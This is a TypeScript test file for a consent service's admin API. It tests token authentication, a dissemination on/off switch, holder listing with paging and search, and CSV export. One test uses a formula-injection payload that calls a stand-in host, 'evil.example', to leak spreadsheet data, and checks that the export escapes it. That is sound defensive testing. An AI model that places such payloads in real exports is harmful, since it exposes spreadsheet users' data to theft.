import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { verifyCountersignature } from '@artgrad/receipt';
import { createDevice, payloadOf } from './fixtures/device.js';
import { ADMIN, ADMIN_2, createHarness, results, type Harness } from './fixtures/harness.js';
import { STORE_KINDS } from './fixtures/stores.js';

const T = Date.now() - 86_400_000;
const GRANT = { processing: true, dissemination: true };

interface HolderBody {
  purpose: string;
  total: number;
  items: { principal: string; subjectId: string | null; kid: string; receiptId: string; consentTimestamp: number; countersignature: string }[];
}

describe.each(STORE_KINDS)('admin API ($name)', (kind) => {
  let h: Harness;
  beforeEach(async () => {
    h = await createHarness(kind);
  });
  afterEach(async () => {
    await h.dispose();
    expect(h.errors).toEqual([]);
  });

  const holders = async (query = 'purpose=dissemination') => {
    const response = await h.admin(`/admin/holders?${query}`);
    expect(response.status).toBe(200);
    return (await response.json()) as HolderBody;
  };
  const put = (requested: unknown, token = ADMIN.token) =>
    h.admin('/admin/requests/dissemination', { method: 'PUT', body: JSON.stringify({ requested }) }, token);

  describe('authentication', () => {
    const routes: [string, string][] = [
      ['GET', '/admin/requests/dissemination'],
      ['PUT', '/admin/requests/dissemination'],
      ['GET', '/admin/requests/dissemination/history'],
      ['GET', '/admin/holders?purpose=dissemination'],
      ['GET', '/admin/holders.csv?purpose=dissemination'],
      ['GET', `/admin/principals/${'A'.repeat(43)}/chain`],
      ['GET', '/admin/holders/count?purpose=dissemination'],
      ['GET', '/admin/withdrawals?purpose=dissemination&since=2025-06-01'],
      ['GET', '/admin/withdrawals.csv?purpose=dissemination&since=2025-06-01'],
      ['GET', '/admin/stats/daily'],
      ['GET', '/admin/session'],
    ];

    it.each(routes)('%s %s: 401 JSON without a token or with a bad one', async (method, path) => {
      const body = method === 'PUT' ? JSON.stringify({ requested: false }) : null;
      for (const authorization of [undefined, 'Bearer wrong-token-wrong-token', `Bearer ${ADMIN.token}x`, `Basic ${ADMIN.token}`, `Bearer ${ADMIN.token.slice(0, -1)}`, 'Bearer']) {
        const headers: Record<string, string> = { 'content-type': 'application/json', ...(authorization ? { authorization } : {}) };
        const response = await h.app.request(path, { method, headers, body });
        expect(response.status, `${authorization}`).toBe(401);
        expect(response.headers.get('www-authenticate')).toMatch(/^Bearer/);
        expect(await response.json()).toEqual({ error: { code: 'UNAUTHORIZED', message: expect.any(String) } });
      }
      // Nothing was switched by the refused PUTs.
      expect(await h.store.requestChanges('dissemination')).toEqual([]);
    });

    it('accepts every configured token, whatever its position', async () => {
      expect((await h.admin('/admin/requests/dissemination', {}, ADMIN.token)).status).toBe(200);
      expect((await h.admin('/admin/requests/dissemination', {}, ADMIN_2.token)).status).toBe(200);
    });

    it('GET /admin/session names the token', async () => {
      expect(await (await h.admin('/admin/session', {}, ADMIN.token)).json()).toEqual({ name: 'aigerim' });
      expect(await (await h.admin('/admin/session', {}, ADMIN_2.token)).json()).toEqual({ name: 'daulet' });
    });
  });

  describe('the dissemination switch', () => {
    it('off: /config drops dissemination; on: it is back; the history records who and when', async () => {
      const config = async () => {
        const response = await h.app.request('/config');
        expect(response.headers.get('cache-control')).toBe('no-cache');
        return (await response.json()) as { purposes: string[]; policy: { version: string; sha256: string } };
      };
      const before = await config();
      expect(before.purposes).toEqual(['processing', 'dissemination']);
      expect(before.policy).toEqual({ version: '2024-1', sha256: expect.stringMatching(/^[A-Za-z0-9_-]{43}$/) });
      expect(await (await h.admin('/admin/requests/dissemination')).json()).toEqual({ purpose: 'dissemination', requested: true });

      h.clock.now = Date.parse('2026-11-20T09:00:00.000Z');
      expect(await (await put(false)).json()).toEqual({ purpose: 'dissemination', requested: false });
      expect((await config()).purposes).toEqual(['processing']);
      expect(await (await h.admin('/admin/requests/dissemination')).json()).toEqual({ purpose: 'dissemination', requested: false });

      h.clock.now = Date.parse('2026-11-21T10:30:00.000Z');
      await put(true, ADMIN_2.token);
      expect((await config()).purposes).toEqual(['processing', 'dissemination']);

      const history = await (await h.admin('/admin/requests/dissemination/history')).json();
      expect(history).toEqual({
        purpose: 'dissemination',
        total: 2,
        items: [
          { requested: true, changedBy: 'daulet', changedAt: '2026-11-21T10:30:00.000Z' },
          { requested: false, changedBy: 'aigerim', changedAt: '2026-11-20T09:00:00.000Z' },
        ],
      });
    });

    it('refuses a bad body, an unknown purpose, and switching off an essential one', async () => {
      expect((await put('no')).status).toBe(400);
      expect((await h.admin('/admin/requests/dissemination', { method: 'PUT', body: '{' })).status).toBe(400);
      expect((await h.admin('/admin/requests/profiling', { method: 'PUT', body: JSON.stringify({ requested: true }) })).status).toBe(404);
      const essential = await h.admin('/admin/requests/processing', { method: 'PUT', body: JSON.stringify({ requested: false }) });
      expect(essential.status).toBe(409);
      expect(((await essential.json()) as { error: { code: string } }).error.code).toBe('PURPOSE_ESSENTIAL');
      expect(await h.store.requestChanges('dissemination')).toEqual([]);
      expect(await h.store.requestChanges('processing')).toEqual([]);
    });

    it('switches on a ready-made extra purpose, listed after the configured ones', async () => {
      await h.admin('/admin/requests/third-party-transfer', { method: 'PUT', body: JSON.stringify({ requested: true }) });
      expect(((await (await h.app.request('/config')).json()) as { purposes: string[] }).purposes).toEqual([
        'processing',
        'dissemination',
        'third-party-transfer',
      ]);
    });
  });

  describe('holders', () => {
    it('lists principals whose current consent is granted, each with its proof', async () => {
      const granted = await createDevice();
      const refused = await createDevice();
      const grant = await granted.sign({ timeMs: T, decisions: GRANT });
      await results(await h.post([grant, await refused.sign({ timeMs: T })]));

      const body = await holders();
      expect(body.total).toBe(1);
      expect(body.items[0]).toMatchObject({ principal: granted.principalId, kid: granted.kid, receiptId: payloadOf(grant).consentReceiptID, consentTimestamp: Math.floor(T / 1000) });
      const jwks = (await (await h.app.request('/.well-known/jwks.json')).json()) as { keys: JsonWebKey[] };
      await verifyCountersignature(body.items[0]!.countersignature, jwks.keys, grant);
      // processing: both hold it.
      expect((await holders('purpose=processing')).total).toBe(2);
    });

    it('a withdrawal removes the holder at once', async () => {
      const device = await createDevice();
      await results(await h.post([await device.sign({ timeMs: T, decisions: GRANT })]));
      expect((await holders()).total).toBe(1);
      await results(await h.post([await device.sign({ timeMs: T + 1000, event: 'withdrawn', decisions: { dissemination: false } })]));
      expect(await holders()).toEqual({ purpose: 'dissemination', total: 0, items: [], nextCursor: null });
      // …while processing, not mentioned by the withdrawal, still stands.
      expect((await holders('purpose=processing')).total).toBe(1);
    });

    it('pages and searches: q, limit, offset, total', async () => {
      for (let i = 0; i < 5; i++) {
        const device = await createDevice();
        await results(await h.post([await device.sign({ timeMs: T + i * 1000, decisions: GRANT, subjectId: `customer-${i}` })]));
      }
      const all = await holders();
      expect(all.total).toBe(5);
      // Newest grant first.
      expect(all.items.map((i) => i.subjectId)).toEqual(['customer-4', 'customer-3', 'customer-2', 'customer-1', 'customer-0']);
      const page = await holders('purpose=dissemination&limit=2&offset=1');
      expect(page.total).toBe(5);
      expect(page.items.map((i) => i.subjectId)).toEqual(['customer-3', 'customer-2']);
      const found = await holders('purpose=dissemination&q=CUSTOMER-2');
      expect(found.total).toBe(1);
      expect(found.items[0]!.principal).toBe('customer-2');
    });

    it('refuses a missing or unknown purpose and out-of-range paging', async () => {
      expect((await h.admin('/admin/holders')).status).toBe(400);
      expect((await h.admin('/admin/holders?purpose=profiling')).status).toBe(404);
      expect((await h.admin('/admin/holders?purpose=dissemination&limit=501')).status).toBe(400);
      expect((await h.admin('/admin/holders?purpose=dissemination&offset=-1')).status).toBe(400);
      expect((await h.admin(`/admin/holders?purpose=dissemination&q=${'x'.repeat(201)}`)).status).toBe(400);
    });

    it('CSV: escapes formula injection in a subjectId, quotes, and carries the proof', async () => {
      const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
      const device = await createDevice();
      const grant = await device.sign({ timeMs: T, decisions: GRANT, subjectId: evil });
      const plus = await createDevice();
      await results(await h.post([grant, await plus.sign({ timeMs: T + 1000, decisions: GRANT, subjectId: '+77011234567' })]));

      const response = await h.admin('/admin/holders.csv?purpose=dissemination');
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toBe('attachment; filename="holders-dissemination.csv"');
      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
      expect(text.startsWith('\uFEFFprincipal,subjectId,piiPrincipalId,kid,receiptId,consentTimestamp,receivedAt,countersignature\r\n')).toBe(true);
      const lines = text.slice(1).trimEnd().split('\r\n');
      expect(lines).toHaveLength(3);
      expect(lines[1]!.startsWith("'+77011234567,'+77011234567,")).toBe(true);
      const quoted = `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`;
      expect(lines[2]!.startsWith(`${quoted},${quoted},`)).toBe(true);
      expect(lines[2]).toContain(payloadOf(grant).consentReceiptID);
      // No cell anywhere starts with a formula character.
      expect(text).not.toMatch(/(^|,|\r\n)[=+\-@]/);
    });
  });
});
